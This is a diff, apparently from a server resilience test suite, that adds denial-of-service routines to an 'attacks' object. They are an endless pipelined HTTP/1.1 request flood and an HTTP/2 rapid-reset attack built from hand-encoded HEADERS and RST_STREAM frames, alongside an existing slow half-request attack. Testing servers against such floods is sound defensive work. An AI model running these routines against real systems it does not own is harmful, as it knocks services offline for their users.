@@ -154,6 +154,43 @@ export const attacks = {
     });
   },
 
+  requests_in_a_row: (port: number) => {
+    const requests = new TextEncoder().encode(
+      "GET /health HTTP/1.1\r\nHost: a\r\n\r\n".repeat(2_000),
+    );
+    each(8, async () => {
+      const client = await RawSocketClient.connect(port);
+      void client.ended();
+      try {
+        for (;;) await client.write(requests);
+      } finally {
+        client.vanish();
+      }
+    });
+  },
+
+  http2_resets: (port: number) => {
+    // The preface, settings, and streams that are begun and reset (RFC 9113).
+    const preface = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
+    const settings = [0, 0, 0, 4, 0, 0, 0, 0, 0];
+    const streams = Uint8Array.from(
+      Array.from({ length: 1_000 }, (_, i) => {
+        const id = [0, 0, (2 * i + 1) >> 8, (2 * i + 1) & 255];
+        return [0, 0, 3, 1, 5, ...id, 0x82, 0x86, 0x84, 0, 0, 4, 3, 0, ...id, 0, 0, 0, 8];
+      }).flat(),
+    );
+    each(32, async () => {
+      const client = await RawSocketClient.connect(port);
+      void client.ended();
+      try {
+        await client.write(Uint8Array.from([...preface, ...settings]));
+        for (;;) await client.write(streams);
+      } finally {
+        client.vanish();
+      }
+    });
+  },
+
   half_requests: (port: number) => {
     const half = new TextEncoder().encode("GET /v1/socket HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: ");
     each(3_000, async () => {
